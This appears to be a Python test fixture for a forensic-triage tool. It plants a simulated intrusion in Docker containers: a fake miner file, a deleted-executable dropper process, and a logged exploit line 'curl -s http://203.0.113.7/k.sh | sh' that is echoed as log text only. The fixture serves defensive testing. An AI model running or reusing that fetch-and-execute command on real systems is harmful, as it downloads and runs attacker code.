"""A known incident on each host of a fleet, with the ground truth the tests check against.

Images are the offline base (tests/support/images.py) under other tags: the `image` field
of a container is what JMESPath selections match (`contains(image, 'nginx')`), so no build
is needed. Everything the tests later compare with is read back from the engine or its
files here, never from the collection's own output.
"""

from tests.support.images import BASE_TAG, ensure_base

NGINX_TAG = 'dfir-fleet/nginx:1'
TIER_LABEL = 'com.example.tier'
# What the web container logs on stdout: the exploit line the case must hold.
EXPLOIT_LINE = '"POST /upload HTTP/1.1" 200 - 203.0.113.7 ran: curl -s http://203.0.113.7/k.sh | sh'
JOB_LINES = ['job line %d of a nightly batch' % number for number in range(1, 4)]

# The web container drops a "miner" in /tmp/.cache and logs the exploit; it keeps running.
WEB_COMMAND = ("echo '%s'; mkdir -p /tmp/.cache && echo 'fake miner' > /tmp/.cache/kdevtmpfsi; exec sleep 3600"
               % EXPLOIT_LINE)
# The dropper runs a copy of busybox as /tmp/sleep and deletes it: a process whose executable is gone.
DROPPER_COMMAND = 'cp /bin/busybox /tmp/sleep && (/tmp/sleep 3600 &) && sleep 1 && rm /tmp/sleep && exec /bin/sleep 3600'


def _run(daemon, name, image, command, *options):
    # --stop-timeout 1: `sleep` as PID 1 ignores SIGTERM; stopping the daemon need not wait 10 s for it.
    return daemon.docker('run', '-d', '--network', 'none', '--stop-timeout', '1', '--name', name,
                         *options, image, 'sh', '-c', command)


def plant(host, idle=0, dropper=False, host_pid=False):
    """Plant the incident on one fleet host; return its ground truth {role: {id, name, ...}}."""
    daemon = host.dockerd
    ensure_base(daemon)
    daemon.docker('tag', BASE_TAG, NGINX_TAG)
    truth = {}
    truth['web'] = {'id': _run(daemon, 'web', NGINX_TAG, WEB_COMMAND, '--label', '%s=web' % TIER_LABEL),
                    'name': 'web', 'image': NGINX_TAG}
    truth['job'] = {'id': _run(daemon, 'job', BASE_TAG, 'for l in %s; do echo "$l"; done'
                               % ' '.join("'%s'" % line for line in JOB_LINES)), 'name': 'job', 'image': BASE_TAG}
    daemon.docker('wait', truth['job']['id'], timeout=120)
    if dropper:
        truth['dropper'] = {'id': _run(daemon, 'dropper', BASE_TAG, DROPPER_COMMAND), 'name': 'dropper'}
    if host_pid:
        # In the host's PID namespace (--privileged is not allowed everywhere tests run).
        truth['tooling'] = {'id': _run(daemon, 'tooling', BASE_TAG, 'exec sleep 3600', '--pid', 'host'),
                            'name': 'tooling'}
    for number in range(1, idle + 1):
        name = 'idle-%02d' % number
        truth[name] = {'id': _run(daemon, name, BASE_TAG, 'exec sleep 3600'), 'name': name}
    wait_for_log(daemon, truth['web']['id'], EXPLOIT_LINE)
    return truth


def wait_for_log(daemon, container_id, line, timeout=30):
    """Logs are written asynchronously: wait until the line is in the container's log."""
    import time
    deadline = time.time() + timeout
    while time.time() < deadline:
        if line in daemon.docker('logs', container_id):
            return
        time.sleep(0.2)
    raise AssertionError('container %s did not log %r within %ss' % (container_id, line, timeout))


def diff_counts(daemon, container_id):
    """What `docker diff` says the container changed, counted by kind: the ground truth of the triage counts."""
    counts = {'added': 0, 'changed': 0, 'deleted': 0}
    for line in daemon.docker('diff', container_id).splitlines():
        kind = {'A': 'added', 'C': 'changed', 'D': 'deleted'}[line.split(' ', 1)[0]]
        counts[kind] += 1
    counts['total'] = sum(counts.values())
    return counts
